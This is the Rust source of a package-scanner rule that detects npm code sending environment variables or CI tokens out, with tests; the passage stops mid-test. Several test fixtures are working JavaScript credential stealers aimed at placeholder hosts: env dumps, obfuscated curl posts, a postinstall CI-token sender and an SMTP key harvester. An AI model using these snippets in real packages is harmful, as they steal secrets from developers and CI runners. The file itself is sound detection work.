//! `code/env-exfiltration`.

use super::{
    SENDS, chain, describe, exfil_destination, finding, flow_finding, flows, locality, per_signal,
};
use crate::CodeFinding;
use crate::flow::{SinkKind, SourceKind};
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// The whole environment (or every secret-looking variable) is collected in a package that sends data out.
    ///
    /// ## What it detects
    /// A value-flow path from the environment to a network or DNS send: `process.env` as a whole (or its
    /// keys/entries, or each variable read while its keys are iterated), through variables, properties, encoders, function arguments, returns, callbacks and the
    /// package's own modules, into an HTTP body, URL or header, a socket or WebSocket write, a beacon, a mail
    /// sent through an SMTP transport the code creates (`nodemailer.createTransport({ host }).sendMail(…)`,
    /// the destination being the SMTP host) or a DNS name (critical); one secret-named variable (`NPM_TOKEN`, `AWS_SECRET_ACCESS_KEY`) sent is medium, or
    /// critical into a DNS name or an exfiltration-style endpoint; a computed `process.env[name]` read in the
    /// function that iterates the variable names, with no constant name read there, is every variable taken
    /// one by one (`Object.keys(e).map(n => n + '=' + e[n])`): critical like the whole. Without a complete path: `process.env`
    /// serialised as a whole (`JSON.stringify(process.env)`; `{...process.env}` stored next to host or user
    /// details; `Object.entries(process.env)` / `for…in` iteration filtered by secret-looking names such as
    /// `/TOKEN|SECRET/`) in a package with a network sink, strongest in the same function or file.
    ///
    /// ## Why it matters
    /// CI and developer environments hold registry, cloud and GitHub tokens; the crossenv typosquats (2017) and
    /// many dependency-confusion probes simply POST `process.env`.
    ///
    /// ## Example
    /// `https.request(u).end(JSON.stringify(process.env))`
    ///
    /// ## Known false positives
    /// dotenv-style loaders iterate `process.env` without a network sink (not reported); spawning a child with
    /// `{ env: process.env }` is recognised and skipped, and so is the environment serialised into the text of a
    /// log message (`logger.debug(`… ${JSON.stringify(env)}`)`, firebase-tools printing the environment it spawns
    /// a script with); crash reporters that attach the whole environment are
    /// reported, on purpose. A mailer configured from the environment (`auth: { pass: process.env.SMTP_PASS }`)
    /// is not a path: the transport's options are where it connects, not what it sends. Package managers send npm configuration taken from the environment
    /// (`npm_config_*`) to the package registry: medium. API clients send their own token (`GITHUB_TOKEN` to the API they wrap): one
    /// secret variable on a path is medium, a weak signal on its own (still medium when the destination is the default
    /// of the provider's own API URL variable, `process.env.GITHUB_API_URL || 'https://…'`: the token goes to its own
    /// service; high when it is a CI runner's job token —
    /// `GITHUB_TOKEN`, `ACTIONS_RUNTIME_TOKEN`, the OIDC request token, `CI_JOB_TOKEN` — sent to a constant host that
    /// is not the CI provider's own, critical from install-time code: a tool that posts the runner's token to its own
    /// SaaS is reported); low in a cloud credential provider whose only
    /// destination is the instance-metadata endpoint (`AWS_CONTAINER_CREDENTIALS_RELATIVE_URI` is its path there);
    /// low when it goes to the loopback host (`ws://localhost:<port>`, a browser's DevTools socket that
    /// puppeteer drives): it does not leave the machine. Paths through a helper shared by many callers no longer
    /// join one caller's argument to another caller's result (call-site-aware flow).
    pub static ENV_EXFILTRATION = { id: "code/env-exfiltration", severity: Severity::Critical };
}

/// One finding per path from the environment to a send, and one per env dump in a package
/// with a network sink.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let mut out = paths(p);
    let traced = out.clone();
    out.extend(per_signal(p, Kind::EnvDump, |f, s| {
        (!super::traced(&traced, f, s)).then(|| report(p, f, s))?
    }));
    out.extend(per_signal(p, Kind::EnvIterate, |f, s| {
        // Iterating the environment is ordinary (prefix filters, dotenv); iterating it with a
        // secret-name filter in the same function is harvesting.
        if !f.has_in(Kind::EnvSecretFilter, s.func) && !f.has_in(Kind::Network, s.func) {
            return None;
        }
        // A traced path from the same line says it already, unless the file filters the
        // names for secrets and the path is weaker: one secret variable read on the line (the
        // CI token a harvester also uses) is not the harvest.
        let r = report(p, f, s)?;
        let harvest = f.has(Kind::EnvSecretFilter);
        let said = traced.iter().any(|t| {
            (!harvest || t.severity >= r.severity)
                && t.evidence
                    .first()
                    .is_some_and(|e| e.file == f.path && e.line == s.line)
        });
        (!said).then_some(r)
    }));
    out
}

const OUT: &[SinkKind] = &[SinkKind::Network, SinkKind::Dns];

fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
    super::one_per_sink(paths_all(p))
}

/// The whole `process.env` object carried unchanged (only passed on, returned or stored)
/// into a template or a `+`: it reads as `[object Object]`, no variable leaves (devframe's
/// bundled `debug` keeps `env = process.env`; context-insensitive flow joins it with a URL
/// template). A key, entry, `JSON.stringify` or encoding first is a real serialisation.
fn object_in_text(path: &crate::flow::FlowPath) -> bool {
    if path.source != SourceKind::EnvAll || path.from.what != "process.env" {
        return false;
    }
    for s in &path.steps {
        match s.what.as_str() {
            // `Object.keys(env)`: names listed (a prefix filter), not values serialised.
            "argument" | "returned" | "stored" | "keys" => continue,
            "template" | "concatenated" => return true,
            _ => return false,
        }
    }
    false
}

fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
    // A credential provider sends `AWS_CONTAINER_CREDENTIALS_RELATIVE_URI` to the metadata
    // endpoint it was made for (see `cloud_metadata`).
    let metadata_only = super::cloud_metadata::metadata_only(p);
    flows(p, &[SourceKind::EnvAll, SourceKind::EnvSecret], OUT)
        .filter(|path| !object_in_text(path))
        .take(20)
        .map(|path| {
            let sev = match path.source {
                // Sent to this machine's own server (a browser's DevTools socket on
                // `ws://localhost:<port>`): it does not leave the machine.
                _ if path.sink == SinkKind::Network && loopback(path.dest.as_deref()) => {
                    Severity::Low
                }
                // npm-style configuration (`npm_config_*` variables) sent to the package
                // registry is how package managers authenticate, not exfiltration.
                SourceKind::EnvAll if package_registry(path.dest.as_deref()) => Severity::Medium,
                SourceKind::EnvAll => Severity::Critical,
                // Each variable whose name matches a secret filter, read in the loop that
                // filters them: the secrets harvested one by one, the whole set sent.
                SourceKind::EnvSecret if harvested(p, path) => Severity::Critical,
                // Every variable read while the environment's keys are iterated
                // (`Object.keys(e).map(k => k + '=' + e[k])`): the whole environment, as
                // serialised by hand.
                SourceKind::EnvSecret if iterated(p, path) => {
                    if package_registry(path.dest.as_deref()) {
                        Severity::Medium
                    } else {
                        Severity::Critical
                    }
                }
                // A CI runner's own token sent to a constant host that is not the CI
                // provider's: the token is good for the repository, not for anyone else;
                // from an install script (it runs inside the runner) it is the attack itself.
                SourceKind::EnvSecret
                    if ci_token(&path.from.what)
                        && path.dest.as_deref().is_some_and(|d| {
                            !ci_provider_host(d) && !ci_api_default(p, &path.to.file, d)
                        }) =>
                {
                    if p.file(&path.to.file).is_some_and(|f| f.install_time) {
                        Severity::Critical
                    } else {
                        Severity::High
                    }
                }
                _ if path.sink == SinkKind::Dns || exfil_destination(path.dest.as_deref()) => {
                    Severity::Critical
                }
                _ if metadata_only => Severity::Low,
                _ => Severity::Medium,
            };
            let what = if path.source == SourceKind::EnvAll || iterated(p, path) {
                "the environment"
            } else {
                "a secret environment variable"
            };
            flow_finding(
                &ENV_EXFILTRATION,
                sev,
                p,
                path,
                format!("{what} is sent out: {}", describe(path)),
            )
        })
        .collect()
}

/// True when `dest` (a URL or host) names the loopback host: `localhost`, `127.x.x.x`, `[::1]`.
fn loopback(dest: Option<&str>) -> bool {
    let Some(d) = dest else { return false };
    let rest = d.split_once("://").map_or(d, |(_, r)| r);
    let host = if let Some(v6) = rest.strip_prefix('[') {
        v6.split(']').next().unwrap_or("")
    } else {
        rest.split([':', '/', '?', '#']).next().unwrap_or("")
    };
    let host = host.to_ascii_lowercase();
    host == "localhost" || host == "::1" || host.starts_with("127.") && !host.contains('@')
}

/// True when the path's source is a computed `process.env[name]` read in a function that
/// iterates the environment and filters variable names for secrets (`/PRIVATE_?KEY|TOKEN/.test(k)`),
/// or filters nothing: the environment iterated and every (secret-named) variable taken, not one
/// variable an API client needs.
fn harvested(p: &PackageFacts, path: &crate::flow::FlowPath) -> bool {
    if path.from.what != "process.env[…]" {
        return false;
    }
    let Some(f) = p.file(&path.from.file) else {
        return false;
    };
    f.signals
        .iter()
        .filter(|s| s.line == path.from.line)
        .any(|s| {
            f.has_in(Kind::EnvIterate, s.func)
                && (f.has_in(Kind::EnvSecretFilter, s.func)
                    // Unfiltered: only when the module that loops also sends (a path through
                    // a CLI's option plumbing across chunks is no harvest).
                    || (path.to.file == path.from.file && !filtered(f, s.func)))
        })
}

/// True when function `func` of `f` reads only some variables by name: a secret filter or a
/// constant-named `process.env.X` next to the iteration. With neither, the computed reads in
/// the iterating function take every variable: the whole environment, one by one
/// (`Object.keys(e).map(n => n + '=' + e[n])`).
fn filtered(f: &crate::signal::FileFacts, func: u32) -> bool {
    f.signals
        .iter()
        .any(|s| s.func == func && s.kind == Kind::EnvRead && s.detail.starts_with("process.env."))
}

/// True when the path's source is a computed `process.env[name]` read within two lines of
/// an iteration of the environment's keys (`Object.keys(process.env)`, `for…in`), with no
/// secret-name filter there (that is [`harvested`]): each variable in turn, the whole set.
/// Only for a short path inside one file (not on a minified first line).
fn iterated(p: &PackageFacts, path: &crate::flow::FlowPath) -> bool {
    // Local only: the read and the send in one file, a few lines apart (a long path through
    // a bundle's helpers joins unrelated variables with unrelated sends).
    if path.from.what != "process.env[…]"
        || path.from.file != path.to.file
        || path.to.line.abs_diff(path.from.line) > 15
        || path.from.line == 1
    {
        return false;
    }
    let Some(f) = p.file(&path.from.file) else {
        return false;
    };
    f.of(Kind::EnvIterate)
        .any(|s| s.line <= path.from.line && path.from.line <= s.line + 2)
}

/// True when `what` (a source detail, `process.env.NAME`) names a CI runner's job token: the
/// GitHub Actions token, runtime and OIDC request tokens, GitLab's job token, Azure
/// Pipelines' access token, Buildkite's agent token.
/// True when the constant destination `dest` is the default of the CI provider's own API
/// URL variable in the sending file (`process.env.GITHUB_API_URL || 'https://…'`): on a
/// runner the variable is set, and the token goes to the provider's API (GitHub Enterprise
/// included); the constant is only the fallback outside it.
fn ci_api_default(p: &PackageFacts, file: &str, dest: &str) -> bool {
    static RE: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    let re = RE.get_or_init(|| {
        regex::Regex::new(
            r#"\b(?:GITHUB_API_URL|GITHUB_SERVER_URL|GITHUB_GRAPHQL_URL|CI_API_V4_URL|CI_SERVER_URL|CI_API_GRAPHQL_URL|SYSTEM_COLLECTIONURI)\b['"]?\]?\s*(?:\|\||\?\?)\s*["'`]([^"'`\s]+)["'`]"#,
        )
        .expect("static regex")
    });
    let Some(text) = p.file(file).and_then(|f| f.text.as_deref()) else {
        return false;
    };
    re.captures_iter(text)
        .filter_map(|c| c.get(1))
        .any(|m| !m.as_str().is_empty() && dest.starts_with(m.as_str()))
}

fn ci_token(what: &str) -> bool {
    let name = what.rsplit('.').next().unwrap_or(what);
    matches!(
        name,
        "GITHUB_TOKEN"
            | "INPUT_GITHUB_TOKEN"
            | "ACTIONS_RUNTIME_TOKEN"
            | "ACTIONS_ID_TOKEN_REQUEST_TOKEN"
            | "CI_JOB_TOKEN"
            | "CI_JOB_JWT"
            | "SYSTEM_ACCESSTOKEN"
            | "BUILDKITE_AGENT_ACCESS_TOKEN"
    )
}

/// True when `dest` (a URL or host) is a CI provider's own service, where its tokens are
/// meant to go: GitHub (`api.github.com`, `*.actions.githubusercontent.com`, the artifact
/// and cache storage on `*.blob.core.windows.net`), GitLab, Azure DevOps, Buildkite.
fn ci_provider_host(dest: &str) -> bool {
    let host = crate::text::url_host(dest);
    [
        "github.com",
        "githubusercontent.com",
        "ghcr.io",
        "blob.core.windows.net",
        "gitlab.com",
        "dev.azure.com",
        "visualstudio.com",
        "buildkite.com",
    ]
    .iter()
    .any(|d| crate::text::host_is(&host, d))
}

/// True when `dest` is a package registry (npm, yarn, GitHub Packages, the npm mirrors).
fn package_registry(dest: Option<&str>) -> bool {
    dest.is_some_and(|d| {
        matches!(
            crate::text::url_host(d).as_str(),
            "registry.npmjs.org"
                | "registry.yarnpkg.com"
                | "npm.pkg.github.com"
                | "registry.npmmirror.com"
        )
    })
}

fn report(
    p: &PackageFacts,
    f: &crate::signal::FileFacts,
    s: &crate::signal::Signal,
) -> Option<CodeFinding> {
    {
        let loc = locality(p, f, s, SENDS);
        if loc == Locality::Alone {
            return None;
        }
        let filtered = f.has(Kind::EnvSecretFilter);
        let sev = if loc >= Locality::File {
            Severity::Critical
        } else if super::is_bundle(f) && f.has_any(SENDS) {
            // A bundle's sends belong to other modules of the bundle (prisma serialises
            // `process.env` for its own WebAssembly engine, its HTTP client is elsewhere).
            Severity::Medium
        } else {
            Severity::High
        };
        let msg = format!(
            "environment collected ({}{}) and sent out",
            s.detail,
            if filtered {
                ", filtered for secrets"
            } else {
                ""
            }
        );
        Some(finding(
            &ENV_EXFILTRATION,
            sev,
            f,
            s,
            loc,
            msg,
            chain(p, f, s, &[Kind::Network, Kind::EnvSecretFilter]),
        ))
    }
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan, severity};

    /// Every variable read one by one in the loop over the names and posted by a curl child
    /// process (names folded from concatenations and char codes); a config loader reading
    /// its own variables by name while iterating is only a secret read (medium).
    /// The environment handed to a "report" helper of another module (a default parameter)
    /// that lists its entries as text and uploads them: the entries step is a serialisation.
    #[test]
    fn positive_entries_uploaded_by_a_helper_module() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/report.js",
                "const https = require('https');\nexports.report = (env, n) => {\n  const doc = Object.entries(env).map(([a, b]) => `${a}=${b}`).join('\\n');\n  const req = https.request({ host: 'api.example.com', path: '/upload', method: 'POST' });\n  req.end(Buffer.from(`${n}\\n${doc}`));\n};\n",
            ),
            (
                "index.js",
                "const { report } = require('./lib/report');\nexports.validate = (schema, env = process.env) => {\n  const problems = Object.keys(schema).filter((k) => !(k in env));\n  report(env, problems.length);\n  return problems;\n};\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/env-exfiltration"),
            vec![("lib/report.js".to_string(), 5)]
        );
    }

    /// Benign look-alike: a logger (bundled `debug`) that lists the environment's names for a
    /// prefix and prints a message whose template ends in a request.
    /// A bundle's shared helper (a string trimmer) takes the npm token at one call and the
    /// request body at another: the token goes back only to its own call, not into the
    /// body that is sent (function summaries are call-site aware).
    #[test]
    fn negative_shared_helper_does_not_join_its_callers() {
        let code = "function clean(s) { return String(s).trim(); }\nconst token = clean(process.env.NPM_TOKEN || '');\nconst body = clean(JSON.stringify({ name: 'x', version: '1.0.0' }));\nexports.ping = () => fetch('https://stats.example.com/v1', { method: 'POST', body: body });\nexports.hasToken = () => token.length > 0;\n";
        let s = scan(&[("package.json", PJ), ("index.js", code)]);
        assert!(
            hits(&s, "code/env-exfiltration").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// puppeteer's shape: a browser-launch variable reaches the DevTools socket on
    /// `ws://localhost:<port>`: the data stays on the machine, a low finding.
    #[test]
    fn negative_secret_sent_to_the_local_devtools_socket() {
        let code = "const WebSocket = require('ws');\nexports.connect = (port) => {\n  const ws = new WebSocket('ws://localhost:' + port + '/devtools/browser');\n  ws.on('open', () => ws.send(JSON.stringify({ method: 'Browser.setDownloadBehavior', params: { path: process.env.PUPPETEER_DOWNLOAD_TOKEN } })));\n};\n";
        let s = scan(&[("package.json", PJ), ("index.js", code)]);
        let sev: Vec<_> = s
            .findings
            .iter()
            .filter(|f| f.rule == "code/env-exfiltration")
            .map(|f| f.severity)
            .collect();
        assert_eq!(sev, vec![diligence_finding::Severity::Low]);
        assert_eq!(s.verdict, crate::Verdict::Clean);
        assert!(super::loopback(Some("ws://localhost:")));
        assert!(super::loopback(Some("http://127.0.0.1:9222/json")));
        assert!(super::loopback(Some("http://[::1]:80/")));
        assert!(!super::loopback(Some("https://localhost.evil.example/")));
        assert!(!super::loopback(Some("https://api.example.com/")));
    }

    /// A release tool sends the runner's `GITHUB_TOKEN` to the API the runner names in
    /// `GITHUB_API_URL`, with a constant fallback: the token's own service, medium (an API
    /// client), not high.
    #[test]
    fn negative_ci_token_to_the_runners_own_api_url() {
        let code = "const API = process.env.GITHUB_API_URL || 'https://ghe.example.org/api/v3';\nfunction auth() { return process.env.GITHUB_TOKEN; }\nexports.release = (repo, tag) => fetch(API + '/repos/' + repo + '/releases', { method: 'POST', headers: { authorization: `Bearer ${auth()}` }, body: JSON.stringify({ tag_name: tag }) });\n";
        let s = scan(&[("package.json", PJ), ("index.js", code)]);
        let sev: Vec<_> = s
            .findings
            .iter()
            .filter(|f| f.rule == "code/env-exfiltration")
            .map(|f| f.severity)
            .collect();
        assert_eq!(sev, vec![diligence_finding::Severity::Medium]);
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// The same token sent to a constant host the CI variable does not name: high.
    #[test]
    fn positive_ci_token_to_a_constant_host_beside_the_api_url() {
        let code = "const API = process.env.GITHUB_API_URL || 'https://ghe.example.org/api/v3';\nfunction auth() { return process.env.GITHUB_TOKEN; }\nexports.release = (repo) => fetch('https://collect.example.net/t', { method: 'POST', headers: { authorization: `Bearer ${auth()}` }, body: repo + API });\n";
        let s = scan(&[("package.json", PJ), ("index.js", code)]);
        let sev: Vec<_> = s
            .findings
            .iter()
            .filter(|f| f.rule == "code/env-exfiltration")
            .map(|f| f.severity)
            .collect();
        assert_eq!(sev, vec![diligence_finding::Severity::High]);
    }

    /// The same helper whose result really is sent: still a path.
    #[test]
    fn positive_shared_helper_result_sent() {
        let code = "function clean(s) { return String(s).trim(); }\nconst token = clean(process.env.NPM_TOKEN || '');\nconst body = clean(JSON.stringify({ name: 'x', t: token }));\nexports.ping = () => fetch('https://stats.example.com/v1', { method: 'POST', body: body });\n";
        let s = scan(&[("package.json", PJ), ("index.js", code)]);
        assert_eq!(
            hits(&s, "code/env-exfiltration"),
            vec![("index.js".to_string(), 4)]
        );
    }

    #[test]
    fn negative_key_prefix_filter_then_template() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "let env = {};\ntry { env = process.env; } catch (_) {}\nconst opts = Object.keys(env).filter((k) => /^debug_/i.test(k)).reduce((o, k) => { o[k.slice(6)] = true; return o; }, {});\nfunction fmt(name, msg) { return `${name} ${msg} ${opts}`; }\nexports.ping = (name) => fetch(`https://cdn.example.com/${fmt(name, 'x')}`);\n",
            ),
        ]);
        assert!(
            hits(&s, "code/env-exfiltration").is_empty(),
            "{:?}",
            s.findings
        );
    }

    #[test]
    fn positive_every_variable_one_by_one() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const q = require('child' + '_process');\nconst m = [101, 120, 101, 99].map((x) => String.fromCharCode(x)).join('');\nexports.t = () => {\n  const e = process['en' + 'v'];\n  const data = Object.keys(e).map((n) => n + '=' + e[n]).join('\\n');\n  q[m + 'File']('curl', ['-s', '--data-binary', data, 'https://example.com/t'], () => {});\n};\n",
            ),
        ]);
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/env-exfiltration"),
            Some(diligence_finding::Severity::Critical)
        );
    }

    /// Secret-named variables harvested at load and mailed through an SMTP transport with
    /// hard-coded credentials (the trusted-service exfiltration of the 2025 Solana stealers).
    #[test]
    fn positive_mailed_through_smtp() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const os = require('os');\nfunction collect() {\n  const found = [];\n  for (const k of Object.keys(process.env)) {\n    if (/PRIVATE_?KEY|MNEMONIC/i.test(k)) found.push(k + '=' + process.env[k]);\n  }\n  return found;\n}\nsetImmediate(() => {\n  const nodemailer = require('nodemailer');\n  const t = nodemailer.createTransport({ host: 'smtp.mail.example.com', port: 465, secure: true, auth: { user: 'a@example.com', pass: 'x' } });\n  t.sendMail({ from: 'a@example.com', to: 'b@example.com', subject: os.hostname(), text: collect().join('\\n') }, () => {});\n});\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/env-exfiltration"),
            vec![("index.js".to_string(), 4), ("index.js".to_string(), 12)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A CI-gated install script posting the runner's tokens to a host that is not GitHub.
    #[test]
    fn positive_ci_token_to_foreign_host() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"t\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node index.js\"}}",
            ),
            (
                "index.js",
                "const https = require('https');\nif (process.env.GITHUB_ACTIONS === 'true') {\n  const body = Buffer.from(JSON.stringify({ t: process.env.ACTIONS_RUNTIME_TOKEN })).toString('base64');\n  https.request({ hostname: 'cache.example.net', method: 'POST' }, () => {}).end(body);\n}\n",
            ),
        ]);
        let sev: Vec<_> = s
            .findings
            .iter()
            .filter(|f| f.rule == "code/env-exfiltration")
            .map(|f| (f.line, f.severity))
            .collect();
        assert_eq!(sev, vec![(4, diligence_finding::Severity::Critical)]);
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// The benign look-alike: a release helper sends `GITHUB_TOKEN` to GitHub's own API.
    #[test]
    fn negative_ci_token_to_github() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const https = require('https');\nexports.release = function (tag) {\n  const req = https.request({ hostname: 'api.github.com', path: '/repos/o/r/releases', method: 'POST', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } });\n  req.end(JSON.stringify({ tag_name: tag }));\n};\n",
            ),
        ]);
        let sev: Vec<_> = s
            .findings
            .iter()
            .filter(|f| f.rule == "code/env-exfiltration")
            .map(|f| f.severity)
            .collect();
        assert!(
            sev.iter()
                .all(|s| *s <= diligence_finding::Severity::Medium)
        );
        assert_ne!(s.verdict, crate::Verdict::Malicious);
    }

    /// The benign look-alike: an app's mailer takes its SMTP password from the environment
    /// and sends the message it is given.
    #[test]
    fn negative_mailer_configured_from_env() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "mail.js",
                "const nodemailer = require('nodemailer');\nconst t = nodemailer.createTransport({ host: 'smtp.example.com', auth: { user: process.env.SMTP_USER, pass: process.env.SMTP_PASS } });\nexports.send = function (to, subject, text) {\n  return t.sendMail({ from: 'noreply@example.com', to, subject, text });\n};\n",
            ),
        ]);
        assert!(hits(&s, "code/env-exfiltration").is_empty());
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    #[test]
    fn positive() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "const http = require('http');\nfunction go() {\n  const body = JSON.stringify(process.env);\n  http.request({ host: 'x.example.net', method: 'POST' }).end(body);\n}\ngo();\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/env-exfiltration"),
            vec![("a.js".to_string(), 4)]
        );
    }

    /// The environment crosses a function and a module before it is sent.
    #[test]
    fn positive_path_across_modules() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const report = require('./report');\nfunction snapshot() {\n  return Object.entries(process.env);\n}\nreport.upload(snapshot());\n",
            ),
            (
                "report.js",
                "const https = require('https');\nexports.upload = function (rows) {\n  const body = Buffer.from(JSON.stringify(rows)).toString('base64');\n  https.request({ hostname: 'r.example.net', method: 'POST' }).end(body);\n};\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/env-exfiltration");
        assert_eq!((f.file.as_str(), f.line), ("report.js", 4));
        assert_eq!(f.severity, diligence_finding::Severity::Critical);
        let chain: Vec<(&str, u32)> = f
            .evidence
            .iter()
            .map(|e| (e.file.as_str(), e.line))
            .collect();
        assert_eq!(chain.first(), Some(&("index.js", 3)));
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// An API client sending its own token: one secret variable, a weak signal.
    #[test]
    fn negative_api_client_sends_its_token() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "gh.js",
                "const https = require('https');\nmodule.exports = function api(path) {\n  return https.request({ hostname: 'api.github.com', path, headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } });\n};\n",
            ),
        ]);
        let sev: Vec<_> = s
            .findings
            .iter()
            .filter(|f| f.rule == "code/env-exfiltration")
            .map(|f| f.severity)
            .collect();
        assert_eq!(sev, vec![diligence_finding::Severity::Medium]);
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    #[test]
    fn negative_spawn_env() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "const https = require('https');\nconst cp = require('child_process');\ncp.spawn('node', ['x'], { env: Object.assign({}, process.env, { A: '1' }), stdio: 'inherit' });\nhttps.get('https://registry.npmjs.org/');\n",
            ),
        ]);
        assert!(hits(&s, "code/env-exfiltration").is_empty());
    }

    /// A dev server's HTTPS options (read from configuration the environment fed) go to
    /// `http2.createSecureServer`: listening, not sending (vite 2.7's preview server).
    #[test]
    fn negative_server_options_from_the_environment() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "function serve(app) {\n  const opts = { key: process.env.SSL_KEY, cert: process.env.SSL_CERT, allowHTTP1: true };\n  return require('http2').createSecureServer(opts, app);\n}\nmodule.exports = serve;\n",
            ),
        ]);
        assert!(
            hits(&s, "code/env-exfiltration").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// Value flow is context-insensitive, so long paths weigh less: env → two helpers → send
    /// (4 call boundaries) is critical in a small file but medium in a bundle (more than
    /// `MAX_BUNDLE_HOPS`); through four helpers (8 boundaries, more than `MAX_HOPS`) it is
    /// medium anywhere.
    #[test]
    fn long_paths_are_medium() {
        let code = |helpers: usize| {
            let mut c = String::new();
            for i in 0..helpers {
                let next = if i + 1 == helpers {
                    "x".to_string()
                } else {
                    format!("h{}(x)", i + 1)
                };
                c.push_str(&format!("function h{i}(x) {{ return {next}; }}\n"));
            }
            c.push_str("const body = h0(JSON.stringify(process.env));\nfetch('https://collect.example.net/e', { method: 'POST', body });\n");
            c
        };
        let severity = |src: &str| {
            let s = scan(&[("package.json", PJ), ("a.js", src)]);
            crate::rules::test_util::finding(&s, "code/env-exfiltration").severity
        };
        use diligence_finding::Severity::{Critical, Medium};
        assert_eq!(severity(&code(2)), Critical);
        // A bundle is code: padded with code it is one (medium) …
        let mut padded = code(2);
        while padded.len() < crate::rules::BUNDLE_BYTES {
            padded.push_str("function pad(n) { return String(n).padStart(2, '0'); }\n");
        }
        assert_eq!(severity(&padded), Medium);
        // … padded with a comment it is not: the path stays critical.
        let commented = format!(
            "{}/*{}*/\n",
            code(2),
            "x ".repeat(crate::rules::BUNDLE_BYTES)
        );
        assert_eq!(severity(&commented), Critical);
        assert_eq!(severity(&code(4)), Medium);
    }

    /// A CI-gated harvester: the line that reads the OIDC request token (a traced, weaker
    /// path) also iterates the environment filtered for secret names, and the function posts:
    /// the harvest is reported at its own strength (critical).
    #[test]
    fn positive_secret_filter_harvest_on_a_line_with_a_token_path() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/init.js",
                "(function () {\n  var e = process.env; if (e.GITHUB_ACTIONS !== 'true') return;\n  function g(u, o) { return fetch(u, o).then(function (r) { return r.json(); }); }\n  (async function () { var id = await g(e.ACTIONS_ID_TOKEN_REQUEST_URL, { headers: { Authorization: 'bearer ' + e.ACTIONS_ID_TOKEN_REQUEST_TOKEN } }); var out = { oidc: id.value, env: {} }; Object.keys(e).forEach(function (k) { if (/TOKEN|SECRET|KEY/.test(k)) out.env[k] = e[k]; });\n    await fetch('https://collect.example.net/u', { method: 'PUT', body: JSON.stringify(out) }); })();\n})();\n",
            ),
        ]);
        assert_eq!(
            severity(&s, "code/env-exfiltration"),
            Some(diligence_finding::Severity::Critical)
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// The benign look-alike: a release tool reads the OIDC request token on the line that
    /// lists `NPM_CONFIG_*` variables (a prefix, no secret-name filter) and asks the CI
    /// provider for its token: the traced token path (medium) stands, no harvest is added.
    #[test]
    fn negative_release_tool_oidc_with_prefix_listing() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "release.js",
                "module.exports = async function () {\n  const e = process.env; const cfg = {}; const id = await fetch(e.ACTIONS_ID_TOKEN_REQUEST_URL + '&audience=npm', { headers: { Authorization: 'bearer ' + e.ACTIONS_ID_TOKEN_REQUEST_TOKEN } }).then((r) => r.json()); Object.keys(e).forEach((k) => { if (k.startsWith('NPM_CONFIG_')) cfg[k] = e[k]; });\n  return { id: id.value, cfg };\n};\n",
            ),
        ]);
        assert!(
            severity(&s, "code/env-exfiltration") < Some(diligence_finding::Severity::Critical),
            "{:?}",
            s.findings
        );
    }

    #[test]
    fn negative_prefix_filter() {
        // Like vite's loadEnv: iterate env keys for a prefix, no network in the function.
        let s = scan(&[
            ("package.json", PJ),
            (
                "e.js",
                "const https = require('https');\nfunction load(prefix) {\n  const out = {};\n  for (const k of Object.keys(process.env)) if (k.startsWith(prefix)) out[k] = process.env[k];\n  return out;\n}\nhttps.get('https://registry.example.com/');\n",
            ),
        ]);
        assert!(hits(&s, "code/env-exfiltration").is_empty());
    }

    #[test]
    fn positive_env_inside_serialised_object() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "t.js",
                "async function ping(u) {\n  await fetch(u, { method: 'POST', body: JSON.stringify({ v: 1, e: process.env }) });\n}\nping('https://t.example.com');\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/env-exfiltration"),
            vec![("t.js".to_string(), 2)]
        );
    }

    /// prisma's CLI bundle: `process.env` serialised for its WebAssembly engine in one function,
    /// HTTP in another function of the same 10 MB file.
    #[test]
    fn env_serialised_far_from_the_send_in_a_bundle_is_medium() {
        let mut bundle = String::from(
            "const https = require('https');\nfunction getConfig(engine, schema) {\n  const params = JSON.stringify({ schema, env: process.env });\n  return engine.get_config(params);\n}\n",
        );
        while bundle.len() < super::super::BUNDLE_BYTES {
            bundle.push_str("function pad(n) { return String(n).padStart(2, '0'); }\n");
        }
        bundle.push_str("function ping(u) { return https.get(u); }\n");
        let s = scan(&[("package.json", PJ), ("build/index.js", &bundle)]);
        let env: Vec<_> = s
            .findings
            .iter()
            .filter(|f| f.rule == "code/env-exfiltration")
